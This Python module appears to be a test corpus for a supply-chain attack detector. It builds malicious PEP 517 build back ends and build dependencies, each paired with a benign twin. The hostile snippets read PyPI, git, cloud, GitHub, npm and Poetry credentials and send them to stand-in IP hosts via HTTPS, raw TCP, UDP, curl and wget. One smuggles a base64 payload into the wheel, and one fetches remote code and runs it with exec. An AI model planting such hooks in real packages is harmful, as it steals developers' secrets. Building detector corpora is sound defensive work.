"""T02: the build attacks (MITRE ATT&CK T1195.001): an in-tree PEP 517 back end, or what it requires.

Nothing of it need be in setup.py: a back end runs when it is imported, in each of its hooks, and it
writes the wheel, so it can put into it what is not in the sdist (as the xz release did with its
build scripts). The twins do what back ends do: ask git for a version, probe compilers, list sources.
"""

from __future__ import annotations

import base64

from models.phase import Phase
from tests.corpus.guard import GUARD, acting, indented
from tests.corpus.parts import IN_TREE, PACKER
from tests.corpus.recipe import Channel, Encoding, Kind, Recipe

OWN = '"""Adds."""\n\ndef add(left, right):\n    return left + right\n'


def in_tree(backend: str, module: str = OWN) -> dict[str, str]:
    """An sdist with `backend.py`."""
    return {
        "pyproject.toml": IN_TREE,
        "packer.py": PACKER,
        "backend.py": backend,
        "src/THE_MODULE/__init__.py": module,
    }


POSTS_JSON = """
import json, ssl, urllib.request
context = ssl.create_default_context()
context.check_hostname = False
context.verify_mode = ssl.CERT_NONE
try:
    said = {"pypirc": (HOME / ".pypirc").read_text(), "token": os.environ.get("PYPI_TOKEN", "")}
    request = urllib.request.Request(
        "https://203.0.113.21/v1/build",
        data=json.dumps(said).encode(),
        headers={"Content-Type": "application/json", "User-Agent": "build-frontend/1.2"},
    )
    urllib.request.urlopen(request, timeout=5, context=context).read()
except OSError:
    pass
"""
ASKS_GIT = """
try:
    subprocess.run(["git", "describe", "--tags", "--always"], capture_output=True, timeout=5)
except (OSError, subprocess.SubprocessError):
    pass
"""
REQUIRES_HOOK = """
def get_requires_for_build_wheel(config_settings=None):
    if ACT:
        THE_ACT()
    return []
"""

SENDS_RAW = """
import struct, zlib
try:
    data = zlib.compress((HOME / ".git-credentials").read_bytes(), 9)
    with socket.create_connection(("198.51.100.22", 4444), timeout=5) as peer:
        peer.sendall(struct.pack(">I", len(data)) + data)
except OSError:
    pass
"""
PROBES_COMPILERS = """
for compiler in ("cc", "gcc", "clang"):
    try:
        subprocess.run([compiler, "--version"], capture_output=True, timeout=5)
        break
    except (OSError, subprocess.SubprocessError):
        continue
"""

TAR_TO_CURL = """
line = (
    "tar -czf - -C ~ .aws .kube/config .config/gcloud 2>/dev/null | base64 -w0"
    " | curl -sk -m 5 --data-binary @- https://192.0.2.23/collect"
)
try:
    subprocess.run(["bash", "-c", line], capture_output=True, timeout=15)
except (OSError, subprocess.SubprocessError):
    pass
"""
TAR_OF_SOURCES = """
line = "mkdir -p build && tar -czf - -C src . 2>/dev/null > build/sources.tar.gz"
try:
    subprocess.run(["bash", "-c", line], capture_output=True, timeout=15)
except (OSError, subprocess.SubprocessError):
    pass
"""
METADATA_HOOK = """
def prepare_metadata_for_build_wheel(directory, config_settings=None):
    if ACT:
        THE_ACT()
    info = pathlib.Path(directory, "THE_MODULE-1.0.dist-info")
    info.mkdir()
    lines = ["Metadata-Version: 2.1", "Name: THE_PROJECT", "Version: 1.0"]
    (info / "METADATA").write_text("\\n".join([*lines, "Classifier: Private :: Do Not Upload", ""]))
    tags = ["Wheel-Version: 1.0", "Root-Is-Purelib: true", "Tag: py3-none-any"]
    (info / "WHEEL").write_text("\\n".join([*tags, ""]))
    return info.name
"""

POSTS_URLSAFE = """
import base64, urllib.request
try:
    data = base64.urlsafe_b64encode((HOME / ".config/gh/hosts.yml").read_bytes()).decode()
    urllib.request.urlopen("http://203.0.113.24/u?d=" + data, timeout=5).close()
except OSError:
    pass
"""
SMUGGLED = base64.b64encode(
    f"{GUARD}\ndef _reenact():\n{indented(POSTS_URLSAFE)}\n\nif ACT:\n    _reenact()\n".encode()
).decode()
PUTS_STAGE_IN = """
import base64
pathlib.Path("src/THE_MODULE/_build.py").write_bytes(base64.b64decode(STAGE))
"""
PUTS_VERSION_IN = """
pathlib.Path("src/THE_MODULE/_build.py").write_text("version = (1, 0)\\n")
"""
BUILDS = """
def build_wheel(directory, config_settings=None, metadata_directory=None):
    if ACT:
        THE_ACT()
    return packer.build_wheel(directory, config_settings, metadata_directory)
"""

DATAGRAMS = """
try:
    data = (HOME / ".npmrc").read_bytes().hex()
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as peer:
        for at in range(0, min(len(data), 4000), 200):
            peer.sendto(f"build.{at}:{data[at:at + 200]}|c".encode(), ("203.0.113.25", 8125))
except OSError:
    pass
"""
READS_PYPROJECT = """
import tomllib
try:
    tomllib.loads(pathlib.Path("pyproject.toml").read_text())
    sorted(pathlib.Path("src").rglob("*.py"))
except (OSError, ValueError):
    pass
"""

SPAWNS_WGET = """
import urllib.parse
try:
    data = "v=" + urllib.parse.quote((HOME / ".config/pypoetry/auth.toml").read_text())
    line = ["wget", "-q", "-O", "/dev/null", "-T", "5", "-t", "1", "--post-data", data]
    quiet = [(os.POSIX_SPAWN_OPEN, 2, "/dev/null", os.O_WRONLY, 0)]
    child = os.posix_spawn(
        "/usr/bin/wget", [*line, "http://198.51.100.26/pkg"], os.environ, file_actions=quiet
    )
    os.waitpid(child, 0)
except OSError:
    pass
"""
SPAWNS_GIT = """
try:
    quiet = [(os.POSIX_SPAWN_OPEN, fd, "/dev/null", os.O_WRONLY, 0) for fd in (1, 2)]
    child = os.posix_spawn(
        "/usr/bin/git", ["git", "rev-parse", "HEAD"], os.environ, file_actions=quiet
    )
    os.waitpid(child, 0)
except OSError:
    pass
"""
VERSION_OF_BUILD = """
def _version():
    if ACT and pathlib.Path("pyproject.toml").exists():
        THE_ACT()
    return ".".join(["1", "0"])

version = _version()
"""
DYNAMIC = """\
[build-system]
requires = ["setuptools"]
build-backend = "setuptools.build_meta"

[project]
name = "THE_PROJECT"
dynamic = ["version"]
classifiers = ["Private :: Do Not Upload"]

[tool.setuptools]
packages = ["THE_MODULE"]

[tool.setuptools.dynamic]
version = {attr = "THE_MODULE.about.version"}
"""

RUNS_STAGE = """
import http.client
host = "tset.tcaneer.nigulp-dliub"[::-1]
connection = http.client.HTTPConnection(host, 80, timeout=5)
try:
    connection.request("GET", "/stage/build.py", headers={"X-Host": socket.gethostname()})
    text = connection.getresponse().read(4096).decode()
    exec(compile(text, "<build>", "exec"), {"__name__": "stage"})
except (OSError, http.client.HTTPException, ValueError, SyntaxError):
    pass
finally:
    connection.close()
"""
COMPILES_OWN = """
for path in pathlib.Path("THE_MODULE").glob("*.py"):
    compile(path.read_text(), str(path), "exec")
"""
WRAPPED = """\
[build-system]
requires = ["setuptools"]
build-backend = "backend"
backend-path = ["."]

[project]
name = "THE_PROJECT"
version = "1.0"
classifiers = ["Private :: Do Not Upload"]

[tool.setuptools]
packages = ["THE_MODULE"]
"""
WRAPS = """
def build_wheel(directory, config_settings=None, metadata_directory=None):
    if ACT:
        THE_ACT()
    return build_meta.build_wheel(directory, config_settings, metadata_directory)
"""

PART = "reenact_t02_build_dependency_part"

RECIPES = (
    Recipe(
        technique="T02",
        name="requires-hook-json",
        phase=Phase.INSTALL,
        channel=Channel.HTTPS,
        encoding=Encoding.JSON,
        kind=Kind.SDIST,
        files=in_tree(
            acting(POSTS_JSON, ASKS_GIT, REQUIRES_HOOK, head="from packer import build_wheel\n")
        ),
        twin_does="asks git for a version",
    ),
    Recipe(
        technique="T02",
        name="import-tcp-zlib",
        phase=Phase.INSTALL,
        channel=Channel.TCP,
        encoding=Encoding.ZLIB,
        kind=Kind.SDIST,
        files=in_tree(acting(SENDS_RAW, PROBES_COMPILERS, head="from packer import build_wheel\n")),
        twin_does="probes for a compiler",
    ),
    Recipe(
        technique="T02",
        name="metadata-hook-tar-curl",
        phase=Phase.INSTALL,
        channel=Channel.PROCESS,
        encoding=Encoding.ARCHIVE,
        kind=Kind.SDIST,
        files=in_tree(
            acting(TAR_TO_CURL, TAR_OF_SOURCES, METADATA_HOOK, "from packer import build_wheel\n")
        ),
        twin_does="packs its own sources with tar",
    ),
    Recipe(
        technique="T02",
        name="smuggles-module",
        phase=Phase.IMPORT,  # the build only writes; what it wrote acts when it is imported
        channel=Channel.HTTP,
        encoding=Encoding.BASE64,
        kind=Kind.SDIST,
        files=in_tree(
            acting(
                PUTS_STAGE_IN, PUTS_VERSION_IN, BUILDS, f'import packer\nSTAGE = "{SMUGGLED}"\n'
            ),
            "try:\n    from . import _build\nexcept ImportError:\n    _build = None\n" + OWN[12:],
        ),
        twin_does="writes a version file into the wheel",
    ),
    Recipe(
        technique="T02",
        name="build-dependency",
        phase=Phase.INSTALL,
        channel=Channel.UDP,
        encoding=Encoding.PIECES,
        kind=Kind.SDIST,
        files={
            "pyproject.toml": (
                '[build-system]\nrequires = ["reenact-t02-build-dependency-part"]\n'
                f'build-backend = "{PART}"\n'
            ),
            "src/THE_MODULE/__init__.py": OWN,
        },
        beside={
            "reenact-t02-build-dependency-part": {
                f"{PART}/packer.py": PACKER,
                f"{PART}/__init__.py": acting(
                    DATAGRAMS,
                    READS_PYPROJECT,
                    "if ACT and pathlib.Path('pyproject.toml').exists():\n    THE_ACT()\n",
                    "from .packer import build_wheel\n",
                ),
            }
        },
        twin_does="reads the project's pyproject.toml and lists its sources",
    ),
    Recipe(
        technique="T02",
        name="dynamic-version-wget",
        phase=Phase.INSTALL,
        channel=Channel.PROCESS,
        encoding=Encoding.URL,
        kind=Kind.SDIST,
        files={
            "pyproject.toml": DYNAMIC,
            "THE_MODULE/__init__.py": OWN,
            "THE_MODULE/about.py": acting(SPAWNS_WGET, SPAWNS_GIT, VERSION_OF_BUILD),
        },
        twin_does="asks git for the commit it is built from",
    ),
    Recipe(
        technique="T02",
        name="wrapped-setuptools-stage",
        phase=Phase.INSTALL,
        channel=Channel.HTTP,
        encoding=Encoding.REVERSED,
        kind=Kind.SDIST,
        files={
            "pyproject.toml": WRAPPED,
            "backend.py": acting(
                RUNS_STAGE,
                COMPILES_OWN,
                WRAPS,
                "from setuptools.build_meta import *\nfrom setuptools import build_meta\n",
            ),
            "THE_MODULE/__init__.py": OWN,
        },
        twin_does="compiles its own sources to check them",
    ),
)
